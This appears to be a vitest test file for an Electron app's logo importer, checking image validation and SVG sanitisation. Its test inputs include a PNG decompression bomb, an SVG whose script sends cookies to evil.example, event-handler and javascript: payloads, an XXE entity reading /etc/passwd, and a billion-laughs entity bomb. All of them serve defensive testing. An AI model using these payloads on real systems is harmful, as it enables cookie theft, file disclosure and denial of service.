import { deflateSync } from 'node:zlib';
import sharp from 'sharp';
import { describe, expect, it } from 'vitest';
import { applyLogoImport, readImage } from '../../../electron/import/index.js';
import { emptyLibrary, LibraryDocument } from '../../../electron/model/index.js';
import { expectAppError } from './helpers.js';

async function png(width: number, height: number): Promise<Uint8Array> {
  return new Uint8Array(await sharp({ create: { width, height, channels: 4, background: { r: 31, g: 78, b: 121, alpha: 1 } } }).png().toBuffer());
}

/** A real PNG header (valid CRCs) that claims a size it does not have: the classic decompression bomb. */
function pngClaiming(width: number, height: number): Uint8Array {
  const crcTable = Array.from({ length: 256 }, (_, n) => {
    let c = n;
    for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
    return c >>> 0;
  });
  const crc = (buf: Buffer): number => {
    let c = 0xffffffff;
    for (const b of buf) c = crcTable[(c ^ b) & 0xff]! ^ (c >>> 8);
    return (c ^ 0xffffffff) >>> 0;
  };
  const chunk = (type: string, data: Buffer): Buffer => {
    const len = Buffer.alloc(4);
    len.writeUInt32BE(data.length);
    const td = Buffer.concat([Buffer.from(type, 'ascii'), data]);
    const c = Buffer.alloc(4);
    c.writeUInt32BE(crc(td));
    return Buffer.concat([len, td, c]);
  };
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr[8] = 8; // bit depth
  ihdr[9] = 2; // truecolour
  const idat = deflateSync(Buffer.alloc(1024));
  return new Uint8Array(
    Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), chunk('IHDR', ihdr), chunk('IDAT', idat), chunk('IEND', Buffer.alloc(0))]),
  );
}

const svg = (body: string, attrs = 'viewBox="0 0 400 100"'): Uint8Array =>
  new TextEncoder().encode(`<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" ${attrs}>${body}</svg>`);

describe('raster logos', () => {
  it('reads PNG, JPEG, WebP and GIF from their bytes, with a thumbnail of at most 256 px', async () => {
    const base = sharp({ create: { width: 1200, height: 400, channels: 3, background: '#c8102e' } });
    const files: [string, Uint8Array][] = [
      ['logo.png', await png(1200, 400)],
      ['logo.jpg', new Uint8Array(await base.clone().jpeg().toBuffer())],
      ['logo.webp', new Uint8Array(await base.clone().webp().toBuffer())],
      ['logo.gif', new Uint8Array(await base.clone().gif().toBuffer())],
    ];
    const formats = [];
    for (const [name, bytes] of files) {
      const img = await readImage(name, bytes);
      formats.push(img.format);
      expect([img.width, img.height]).toEqual([1200, 400]);
      expect(img.bytes.byteLength).toBe(bytes.byteLength);
      const thumb = await sharp(img.thumbnailPng).metadata();
      expect(thumb.format).toBe('png');
      expect([thumb.width, thumb.height]).toEqual([256, 85]);
    }
    expect(formats).toEqual(['png', 'jpeg', 'webp', 'gif']);
  });

  it('trusts the bytes, not the name: a PNG named .jpg is a PNG; a text file named .png is refused', async () => {
    const img = await readImage('logo.jpg', await png(64, 32));
    expect(img.format).toBe('png');
    await expectAppError(readImage('logo.png', new TextEncoder().encode('This is not an image, just a note.')), 'INVALID_FILE', /^logo\.png: .*not an image/);
  });

  it('refuses a header claiming 100000 × 100000 pixels before decoding it', async () => {
    const started = Date.now();
    await expectAppError(readImage('bomb.png', pngClaiming(100_000, 100_000)), 'FILE_TOO_LARGE', /^bomb\.png: .*100000 × 100000.*megapixels/);
    expect(Date.now() - started).toBeLessThan(2000);
  });

  it('refuses a truncated JPEG, a zero-byte file and a file over 25 MB', async () => {
    const jpeg = await sharp({ create: { width: 600, height: 600, channels: 3, background: '#336699' } }).jpeg().toBuffer();
    await expectAppError(readImage('cut.jpg', new Uint8Array(jpeg.subarray(0, Math.floor(jpeg.length / 2)))), 'INVALID_FILE', /^cut\.jpg: .*(damaged|truncated)/);
    await expectAppError(readImage('empty.png', new Uint8Array()), 'INVALID_FILE', /^empty\.png: the file is empty/);
    const big = new Uint8Array(25 * 1024 * 1024 + 1);
    big.set(await png(8, 8));
    await expectAppError(readImage('huge.png', big), 'FILE_TOO_LARGE', /^huge\.png: .*25 MB/);
  });
});

describe('SVG logos', () => {
  it('keeps a clean logo, takes its size from the viewBox and rasterizes the thumbnail', async () => {
    const img = await readImage(
      'acme.svg',
      svg('<defs><linearGradient id="g"><stop offset="0" stop-color="#1f4e79"/><stop offset="1" stop-color="#c8102e"/></linearGradient></defs><rect width="400" height="100" fill="url(#g)"/><text x="20" y="60" font-size="40" fill="#fff">ACME</text>'),
    );
    expect(img).toMatchObject({ format: 'svg', width: 400, height: 100 });
    const out = new TextDecoder().decode(img.bytes);
    expect(out).toContain('viewBox="0 0 400 100"');
    expect(out).toContain('fill="url(#g)"');
    const thumb = await sharp(img.thumbnailPng).metadata();
    expect([thumb.format, thumb.width, thumb.height]).toEqual(['png', 256, 64]);
    const stats = await sharp(img.thumbnailPng).stats();
    // Drawn, not blank: the red channel varies across the gradient.
    expect(stats.channels[0]!.max - stats.channels[0]!.min).toBeGreaterThan(50);
  });

  it('removes script, event handlers, javascript: and external links, and foreignObject', async () => {
    const img = await readImage(
      'hostile.svg',
      svg(
        `<script>fetch('https://evil.example/?c='+document.cookie)</script>` +
          `<rect width="100" height="100" fill="#000" onload="alert(1)" onclick="alert(2)"/>` +
          `<a href="javascript:alert(3)"><circle cx="50" cy="50" r="40" fill="#f00"/></a>` +
          `<image width="10" height="10" xlink:href="https://evil.example/track.png"/>` +
          `<image width="10" height="10" href="file:///etc/passwd"/>` +
          `<use xlink:href="https://evil.example/sprite.svg#icon"/>` +
          `<use href="#local"/>` +
          `<foreignObject width="100" height="100"><div xmlns="http://www.w3.org/1999/xhtml">phish</div></foreignObject>` +
          `<rect style="fill:url(https://evil.example/x)" width="1" height="1"/>` +
          `<style>@import url(https://evil.example/a.css); rect { fill: #123456 }</style>`,
        'width="200" height="100"',
      ),
    );
    const out = new TextDecoder().decode(img.bytes);
    for (const bad of ['script', 'onload', 'onclick', 'javascript', 'evil.example', 'file:', 'foreignObject', 'phish', '@import']) expect(out).not.toContain(bad);
    expect(out).toContain('<circle');
    expect(out).toContain('href="#local"');
    expect(out).toContain('fill: #123456');
    expect([img.width, img.height]).toEqual([200, 100]);
    expect((await sharp(img.thumbnailPng).metadata()).format).toBe('png');
  });

  it('refuses XXE and billion-laughs entity declarations', async () => {
    const xxe = new TextEncoder().encode(
      '<?xml version="1.0"?>\n<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><text>&xxe;</text></svg>',
    );
    await expectAppError(readImage('xxe.svg', xxe), 'INVALID_FILE', /^xxe\.svg: .*DOCTYPE or ENTITY/);
    const lols = Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i};`.repeat(10)}">`).join('');
    const laughs = new TextEncoder().encode(
      `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol0 "lol">${lols}]><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><text>&lol9;</text></svg>`,
    );
    await expectAppError(readImage('laughs.svg', laughs), 'INVALID_FILE', /^laughs\.svg: .*DOCTYPE or ENTITY/);
  });
});

describe('applyLogoImport', () => {
  it('links the logo to an organization matched by name (accents and case aside), or creates it', async () => {
    const draft = emptyLibrary();
    const img = await readImage('mivo.png', await png(300, 100));
    const sha = 'a'.repeat(64);
    const opts = { now: '2026-03-01T12:00:00.000Z', fileSha256: sha, thumbSha256: 'b'.repeat(64), originalFileName: 'C:\\Logos\\mivo.png' };
    const logo = applyLogoImport(draft, img, { ...opts, organizationName: 'Bioalliance Laurentides', variant: 'horizontal' });
    const again = applyLogoImport(draft, img, { ...opts, organizationName: 'BIOALLIANCE LAURENTIDES', variant: 'horizontal' });
    expect(again.id).toBe(logo.id);
    expect(draft.organizations).toHaveLength(1);
    expect(draft.logos).toHaveLength(1);
    expect(logo).toMatchObject({ variant: 'horizontal', originalFileName: 'mivo.png', file: { format: 'png', width: 300, height: 100, sha256: sha } });
    expect(logo.organizationId).toBe(draft.organizations[0]!.id);
    expect(() => LibraryDocument.parse(draft)).not.toThrow();
  });
});
